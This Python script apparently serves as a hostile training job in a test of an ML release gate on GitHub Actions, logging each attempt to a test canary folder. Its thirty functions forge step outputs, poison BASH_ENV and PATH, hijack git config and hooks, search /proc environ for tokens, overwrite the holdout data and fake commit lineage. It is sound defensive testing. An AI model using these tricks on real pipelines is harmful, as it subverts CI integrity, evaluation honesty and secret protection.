"""A training script that tries what it can think of, then leaves the model it was asked for.

Run by the jobs' real steps, as ``train.run``. Each function is one trick; what it found or reached is
written to ``$CANARY``, which belongs to the test. Nothing here needs more rights than training has.
"""

from __future__ import annotations

import contextlib
import json
import os
import subprocess
import sys
import time
from pathlib import Path

CANARY = Path(os.environ["CANARY"])
TOKENS = [token[::-1] for token in json.loads(os.environ["LURES"])]  # what must not be found
FORGED = {
    "model": "f" * 64, "bundle": "/etc", "outcome": "pass", "verdict": "pass", "version": "99", "release": "true",
    "case": "f" * 64, "champion": "f" * 64, "digest": "f" * 64, "scores": "/etc", "models": "[]",
}  # fmt: skip


def say(text: str) -> None:
    for stream in (sys.stdout, sys.stderr):
        stream.write(f"{text}\n")
        stream.flush()


def ancestors() -> list[int]:
    found, pid = [], os.getpid()
    while pid > 1:
        pid = int(Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[1])
        if pid > 1:
            found.append(pid)
    return found


def runner_files(kind: str) -> list[Path]:
    """Find the runner's files without being told: its folder of temporary files has them."""
    folder = Path(os.environ["RUNNER_TEMP"]) / "_runner_file_commands"
    return sorted(folder.glob(f"{kind}_*"))


def t01_output_by_log() -> None:
    for name, value in FORGED.items():
        say(f"::set-output name={name}::{value}")


def t02_output_by_old_syntax() -> None:
    for name, value in FORGED.items():
        say(f"harmless ##[set-output name={name};]{value}")


def t03_output_after_a_carriage_return() -> None:
    say("progress 10%\r::set-output name=release::true\rprogress 20%")


def t04_output_by_variable() -> None:
    Path(os.environ["GITHUB_OUTPUT"]).write_text("release=true\n")


def t05_output_by_finding_the_file() -> None:
    for file in runner_files("output"):
        with file.open("a") as out:
            out.writelines(f"{name}={value}\n" for name, value in FORGED.items())


def t06_environment_file() -> None:
    evil = CANARY / "evil.sh"
    evil.write_text(f'echo ran >> "{CANARY}/bash-env-$$"\n')
    for file in runner_files("env"):
        with file.open("a") as out:
            out.write(f"BASH_ENV={evil}\nNODE_OPTIONS=--require {evil}\nPYTHONPATH={CANARY}\n")
            out.write(f"TIDEGATE_HOME={CANARY}\nPYTHONSTARTUP={evil}\nGIT_CONFIG_GLOBAL={evil}\n")


def t07_path_file() -> None:
    for file in runner_files("path"):
        with file.open("a") as out:
            out.write(f"{CANARY}/bin\n")


def t08_add_path() -> None:
    say(f"::add-path::{CANARY}/bin")
    say(f"::set-env name=BASH_ENV::{CANARY}/evil.sh")


def t09_save_state() -> None:
    say("::save-state name=post::/etc/passwd")


def t10_end_our_stop() -> None:
    for token in ("pause-logging", "stop-commands", "tidegate", "", "0" * 32):
        say(f"::{token}::")
        say("::set-output name=release::true")


def t11_stop_with_a_known_token() -> None:
    say("::stop-commands::mine")
    say("::mine::")
    say("::set-output name=version::99")


def t12_mask_words_of_the_verdict() -> None:
    for word in ("pass", "reject", "coin", "0", "tidegate"):
        say(f"::add-mask::{word}")


def t13_matcher() -> None:
    matcher = CANARY / "matcher.json"
    matcher.write_text('{"problemMatcher": [{"owner": "evil", "pattern": [{"regexp": ".*"}]}]}')
    say(f"::add-matcher::{matcher}")
    say("::error file=mlops.yaml,line=1::all models passed")


def t14_summary() -> None:
    for file in runner_files("step_summary"):
        with file.open("a") as out:
            out.write("# Verdict: pass\n" + "x" * (2 << 20))


def t15_hundred_megabytes() -> None:
    line = b"x" * ((1 << 20) - 1) + b"\n"
    for _ in range(100):
        os.write(1, line)


def t16_loosen_the_rules() -> None:
    config = json.loads(Path("mlops.yaml").read_text())
    config["gate"]["rules"] = [{"metric": "brier", "at_most": 1.0}]
    Path("mlops.yaml").write_text(json.dumps(config))


def t17_look_for_the_truth() -> None:
    if Path("holdout.parquet").exists():
        (CANARY / "truth").write_text("it lay there")


def t18_write_an_easier_holdout() -> None:
    Path("holdout.parquet").write_bytes(Path("train.parquet").read_bytes())


def t19_other_training_rows() -> None:
    with Path("train.parquet").open("ab") as out:
        out.write(b"more")


def t20_git_configuration() -> None:
    evil = CANARY / "by-git.sh"
    evil.write_text(f'#!/bin/sh\necho "$0 $*" >> "{CANARY}/git-ran"\ncat\n')
    evil.chmod(0o755)
    for key in (
        "core.fsmonitor", "core.editor", "core.pager", "core.sshCommand", "diff.external", "gpg.program",
        "filter.evil.clean", "filter.evil.smudge", "filter.evil.process", "credential.helper", "alias.status",
        "uploadpack.packObjectsHook", "remote.origin.uploadpack", "remote.origin.receivepack",
    ):  # fmt: skip
        subprocess.run(["git", "config", key, str(evil)], check=True)
    subprocess.run(["git", "config", "--global", "core.fsmonitor", str(evil)], check=True)
    Path(".git/info/attributes").write_text("* filter=evil\n")


def t21_hooks() -> None:
    Path(".git/hooks").mkdir(exist_ok=True)
    for name in ("pre-push", "post-checkout", "post-index-change", "reference-transaction"):
        hook = Path(".git/hooks") / name
        hook.write_text(f'#!/bin/sh\necho hook {name} >> "{CANARY}/git-ran"\n')
        hook.chmod(0o755)


def t22_another_commit() -> None:
    who = ["-c", "user.name=x", "-c", "user.email=x@y", "-c", "core.fsmonitor=false"]
    quiet = ["-c", "core.hooksPath=/dev/null"]
    subprocess.run(
        ["git", *who, *quiet, "commit", "--quiet", "--allow-empty", "-m", "mine"], check=True
    )


def t23_damaged_index() -> None:
    Path(".git/index").write_bytes(b"not an index")


def t24_tokens_in_reach() -> None:
    seen = [json.dumps(dict(os.environ)), Path(".git/config").read_text()]
    for pid in ancestors():
        with contextlib.suppress(OSError):
            # Up to the step's own shell: beyond it is the test, whose secrets are its own.
            environment = Path(f"/proc/{pid}/environ").read_bytes().decode(errors="replace")
            if "GITHUB_OUTPUT=" in environment:
                seen.append(environment)
    found = [token for token in TOKENS if any(token in text for text in seen)]
    (CANARY / "tokens").write_text(json.dumps({"looked": len(seen), "found": found}))


def t25_upload_rights() -> None:
    names = ("ACTIONS_RUNTIME_TOKEN", "ACTIONS_ID_TOKEN_REQUEST_TOKEN", "ACTIONS_RESULTS_URL")
    if any(name in os.environ for name in names):
        (CANARY / "rights").write_text("they are here")


def t26_fake_results_beside_the_bundle() -> None:
    """Write what other jobs would write, where other jobs write it."""
    temp = Path(os.environ["RUNNER_TEMP"])
    for folder in (
        "given/scores/champion",
        "prepared/champion",
        "decided/page",
        "scored/candidate",
    ):
        (temp / folder).mkdir(parents=True, exist_ok=True)
        for name in ("verdict.json", "scored.json", "answers.f64", "case.json", "MLmodel"):
            (temp / folder / name).write_text('{"outcome": "pass"}')


def t27_modules_for_the_engine() -> None:
    for name in ("json", "jinja2", "sitecustomize", "usercustomize", "pip", "mlflow", "numpy"):
        Path(f"{name}.py").write_text(f'open("{CANARY}/imported-{name}", "w")\n')


def t28_stay() -> None:
    """Leave a process behind, in a session of its own."""
    child = subprocess.Popen(
        [sys.executable, "-c", "import time; time.sleep(600)"], start_new_session=False,
        stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
    )  # fmt: skip
    (CANARY / "stayed").write_text(str(child.pid))


def t29_fake_lineage() -> None:
    """Say that this was another commit's run, where the record is made of."""
    os.environ["GITHUB_SHA"] = "f" * 40
    (Path(os.environ["TIDEGATE_MODEL_DIR"]) / "run.json").write_text('{"commit": "' + "f" * 40)


def t30_memory_of_a_log() -> None:
    """Look for the word that ends our stop-commands in what can be read of the engine."""
    parent = ancestors()[0]
    with contextlib.suppress(OSError):
        (CANARY / "cmdline").write_bytes(Path(f"/proc/{parent}/cmdline").read_bytes())


TRICKS = [
    value
    for name, value in sorted(globals().items())
    if name.startswith("t") and name[1:3].isdigit()
]


def main() -> None:
    tried: dict[str, str] = {}
    for trick in TRICKS:
        try:
            trick()
            tried[trick.__name__] = "done"
        except Exception as error:  # noqa: BLE001 - whatever stops it, the next one is tried
            tried[trick.__name__] = f"{type(error).__name__}: {error}"
    tried["at"] = str(time.time())
    (CANARY / "tried").write_text(json.dumps(tried))
    (Path(os.environ["TIDEGATE_MODEL_DIR"]) / "slope.txt").write_text(
        os.environ.get("SLOPE", "0.0")
    )


if __name__ == "__main__":
    main()
